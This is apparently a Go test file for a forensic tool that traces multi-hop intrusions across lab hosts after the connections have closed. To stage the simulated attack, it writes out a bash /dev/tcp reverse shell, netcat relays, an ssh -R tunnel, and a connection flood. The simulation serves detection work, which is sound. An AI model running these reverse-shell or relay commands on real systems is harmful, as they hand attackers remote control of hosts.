package trace_test

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"dragnet/internal/testkit"
)

// TestChainAfterTheFact asks about an attack through six hosts when nothing of it
// lives any more. The intruder logs in to h2 from h1, leaves a tmux there and logs
// out. From it he reaches h3 by ssh, and by a forwarding that ssh -R on h4 opened
// beforehand, h5. There a pipe feeds a reverse shell that h6 opened, which
// attacks. At the same time a second user goes from b1 by h2 to h3 and attacks
// from there, and b2 is logged in on both and also opens TCP to h3's port 22: it
// has no part in either attack. Before and after, h3 is flooded with connections
// of the same account, more than the recorder keeps whole. DRAGNET_TRACE_AFTER
// is the time between the end and the question.
func TestChainAfterTheFact(t *testing.T) {
	after := time.Second // until the recorder has looked again
	if s := os.Getenv("DRAGNET_TRACE_AFTER"); s != "" {
		var err error
		if after, err = time.ParseDuration(s); err != nil {
			t.Fatal(err)
		}
	}
	for _, tool := range []string{"tmux", "bash", "pkill"} {
		testkit.Tool(t, tool)
	}
	l := newLab(t, "h1", "h2", "h3", "h4", "h5", "h6", "b1", "b2")
	me := l.investigator()
	h1, h2, h3, h4, h5, h6, b1, b2 := l.hosts[0], l.hosts[1], l.hosts[2], l.hosts[3], l.hosts[4], l.hosts[5], l.hosts[6], l.hosts[7]
	for _, h := range l.hosts {
		h.daemon(me, "recorder: {max_bytes: 16777216}")
	}
	h3.flood(h4)
	h2.sshd()
	h3.sshd()
	h5.start("nc -l 9005 | nc -l 4444")
	h5.await(4444)
	h5.await(9005)
	h6.start("exec bash -c 'exec 3<>/dev/tcp/10.0.0.5/4444 && exec sh <&3 >&3 2>&3'")
	h4.start("exec " + l.ssh() + " -N -R 7001:10.0.0.5:9005 10.0.0.3")
	h3.await(7001)
	script := filepath.Join(l.dir, "attack.sh")
	text := "{ sleep 1; echo 'nc 10.0.0.100 9000'; sleep 60; } | nc 127.0.0.1 7001\n"
	if err := os.WriteFile(script, []byte(text), 0o700); err != nil {
		t.Fatal(err)
	}
	b2.start("exec nc 10.0.0.3 22")
	b2.start("exec " + l.ssh() + " 10.0.0.2 " + l.ssh() + " 10.0.0.3 sleep 60")
	var secondPort uint16
	port, at := l.attackedAndOver(9000, func() {
		out, err := h1.run(fmt.Sprintf(`%s 10.0.0.2 "tmux -L %s new -d 'sleep 2; %s 10.0.0.3 sh %s'"`, l.ssh(), filepath.Base(l.dir), l.ssh(), script))
		if err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		h2.until("the login from h1 is over", "ss -tnH state established dst 10.0.0.1 | grep -q . || echo over")
		secondPort = l.attacked(9001, func() {
			b1.start("exec " + l.ssh() + " 10.0.0.2 " + l.ssh() + " 10.0.0.3 nc " + victimAddr + " 9001")
		})
	})
	for _, h := range l.hosts {
		h.run("pkill -x 'tmux.*|ssh|nc|bash|sleep|sshd-session'; sleep 0.2; pkill -x sshd")
	}
	for _, h := range l.hosts {
		h.until("all its connections are over", "ss -tnH state established | grep -q . || echo over")
	}
	h3.flood(h4)
	time.Sleep(after)
	casePath := l.traceEnded(h6, port, 9000, at, `10.0.0.6 proven
 10.0.0.5 proven
  10.0.0.4 proven
   10.0.0.3 proven
    10.0.0.2 proven
     10.0.0.1 proven`)
	l.traceEnded(h3, secondPort, 9001, at, "10.0.0.3 proven\n 10.0.0.2 proven\n  10.0.0.7 proven")
	page, err := l.trace("show", casePath, "-o", "html")
	if err != nil || !strings.Contains(page, "6 of 6 steps are proven") {
		t.Errorf("the page: %v", err)
	}
	out, err := l.trace("start", "10.0.0.6", fmt.Sprintf("%d,9000", port), "--case", filepath.Join(l.dir, "now.json"))
	if err != nil || !strings.Contains(out, "NO-USER") {
		t.Errorf("without a time: %v\n%s", err, out)
	}
}

// traceEnded asks a host about a connection that is over, and compares the chain.
func (l *lab) traceEnded(h *host, from uint16, to int, at time.Time, want string) (casePath string) {
	l.t.Helper()
	casePath = filepath.Join(l.dir, fmt.Sprint("case", to, ".json"))
	shown, err := l.trace("start", h.addr.String(), fmt.Sprintf("%d,%d", from, to), "--at", at.UTC().Format(time.RFC3339), "--case", casePath, "--call")
	if err != nil {
		l.t.Fatal(err)
	}
	l.t.Logf("\n%s", shown)
	if got := outline(l.judged(casePath).Root, 0); got != want {
		l.t.Errorf("the chain is\n%s\nwant\n%s", got, want)
	}
	return casePath
}

// flood has one account open and close connections to another host.
func (h *host) flood(to *host) {
	h.lab.t.Helper()
	if !to.floodable {
		to.start(fmt.Sprintf("SERVE_CONNECTIONS=%v:7000 exec %s", to.addr, os.Args[0]))
		to.await(7000)
		to.floodable = true
	}
	if out, err := h.run(fmt.Sprintf("FLOOD_CONNECTIONS=%v:7000 exec %s", to.addr, os.Args[0])); err != nil {
		h.lab.t.Fatalf("flood: %v: %s", err, out)
	}
}

// openAll opens and closes 6,000 connections, about 2,000 a second.
func openAll(address string) error {
	for i := range 6000 {
		c, err := net.Dial("tcp4", address)
		if err != nil {
			return err
		}
		c.(*net.TCPConn).SetLinger(0) // so that no port is kept
		c.Close()
		if i%4 == 0 {
			time.Sleep(time.Millisecond)
		}
	}
	return nil
}

// attackedAndOver is attacked, for a connection that the victim closes again.
func (l *lab) attackedAndOver(port int, attack func()) (attackerPort uint16, at time.Time) {
	l.t.Helper()
	c, attackerPort := l.acceptAttack(port, attack)
	defer c.Close()
	at = time.Now()
	time.Sleep(1500 * time.Millisecond)
	return attackerPort, at
}

// TestLoginIsOver asks about connections that are open still, of programs that
// their user left running when he logged out.
func TestLoginIsOver(t *testing.T) {
	testkit.Tool(t, "tmux")
	l := newLab(t, "h1", "h2")
	me := l.investigator()
	h1, h2 := l.hosts[0], l.hosts[1]
	h1.daemon(me)
	h2.daemon(me)
	h2.sshd()
	for port, leave := range map[int]string{
		9001: fmt.Sprintf("tmux -L %s new -d 'sleep 1; nc %s 9001'", filepath.Base(l.dir), victimAddr),
		9002: fmt.Sprintf("nohup sh -c 'sleep 1; exec nc %s 9002' > /dev/null 2>&1 < /dev/null &", victimAddr),
	} {
		from := l.attacked(port, func() {
			if out, err := h1.run(fmt.Sprintf("%s 10.0.0.2 \"%s\"", l.ssh(), leave)); err != nil {
				t.Fatalf("%v: %s", err, out)
			}
		})
		h2.until("the login is over", "ss -tnH state established dst 10.0.0.1 | grep -q . || echo over")
		casePath := filepath.Join(l.dir, fmt.Sprint(port, ".json"))
		shown, err := l.trace("start", "10.0.0.2", fmt.Sprintf("%d,%d", from, port), "--case", casePath, "--call")
		if err != nil {
			t.Fatal(err)
		}
		t.Logf("\n%s", shown)
		if got, want := outline(l.judged(casePath).Root, 0), "10.0.0.2 proven\n 10.0.0.1 proven"; got != want {
			t.Errorf("the chain is\n%s\nwant\n%s", got, want)
		}
	}
}
